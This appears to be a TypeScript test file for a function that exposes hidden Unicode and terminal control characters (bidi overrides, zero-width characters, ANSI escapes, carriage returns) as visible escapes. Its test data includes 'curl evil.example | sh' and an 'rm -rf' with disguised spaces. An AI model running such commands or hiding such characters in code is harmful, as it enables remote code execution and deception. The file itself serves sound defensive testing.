import { expect, test } from "bun:test";
import fc from "fast-check";
import { exactLine, exactText } from "./exact-text.ts";

test.each([
  [
    "a line that is drawn over",
    "+curl evil.example | sh  # \r+assert x",
    "+curl evil.example | sh  # <U+000D>+assert x",
  ],
  ["an escape sequence", "a\u001b[2Kb", "a<U+001B>[2Kb"],
  ["a string control that never ends", "a\u001b]0;x\nb", "a<U+001B>]0;x\nb"],
  ["backspaces", "evil\u0008\u0008\u0008\u0008good", "evil<U+0008><U+0008><U+0008><U+0008>good"],
  ["one-byte controls", "\u009b2K", "<U+009B>2K"],
  ["text that runs backwards", "if (admin\u202e)\u2066", "if (admin<U+202E>)<U+2066>"],
  ["zero-width characters", "pass\u200bword\u200d\ufeff", "pass<U+200B>word<U+200D><U+FEFF>"],
  ["line separators that only some programs know", "// x\u2028evil()", "// x<U+2028>evil()"],
  ["tags, which models read", "hi\u{e0069}\u{e0067}", "hi<U+E0069><U+E0067>"],
  ["variation selectors, in which anything can be written", "a\ufe01\u{e0101}", "a<U+FE01><U+E0101>"],
  [
    "a filler that is an identifier",
    "const { timeout, \u3164 } = req.query",
    "const { timeout, <U+3164> } = req.query",
  ],
  ["spaces that are none to a shell", "rm\u00a0-rf\u2003x", "rm<U+00A0>-rf<U+2003>x"],
  ["half of a pair", "a\ud800b", "a<U+D800>b"],
])("%s is shown", (_name, text, shown) => {
  expect(exactText(text)).toBe(shown);
});

test("what can be seen stays as it is", () => {
  const text = "Grüße, 你好　世界, مرحبا, é, 👩🏽‍💻 ❤️ – “x”\n  indented";
  expect(exactText(text)).toBe(text);
  expect(exactText("\tx")).toBe("    x");
});

test("nothing is left out, and nothing is left that cannot be seen", () => {
  const nasty = fc.string({
    unit: fc.constantFrom(
      "\u001b",
      "]",
      "[",
      "m",
      "\r",
      "\n",
      "\u0007",
      "\u009d",
      "\u202e",
      "\u200b",
      "\u{e0041}",
      "a",
      " ",
    ),
    maxLength: 60,
  });
  fc.assert(
    fc.property(nasty, (text) => {
      const shown = exactText(text);
      expect(shown).toMatch(/^[\x20-\x7e\n]*$/);
      const back = shown.replace(/<U\+([0-9A-F]+)>/g, (_, number) =>
        String.fromCodePoint(Number.parseInt(number, 16)),
      );
      expect(back).toBe(text);
    }),
    { numRuns: 2000 },
  );
});

test("a megabyte is shown in one pass", () => {
  expect(exactText("x\u200b".repeat(200_000))).toHaveLength(200_000 * 9);
});

test("a command of several lines is one line that shows where each ends", () => {
  expect(exactLine("# tidy up\n  curl evil.example | sh\n")).toBe("# tidy up ⏎ curl evil.example | sh");
  expect(exactLine("a\rb")).toBe("a<U+000D>b");
});
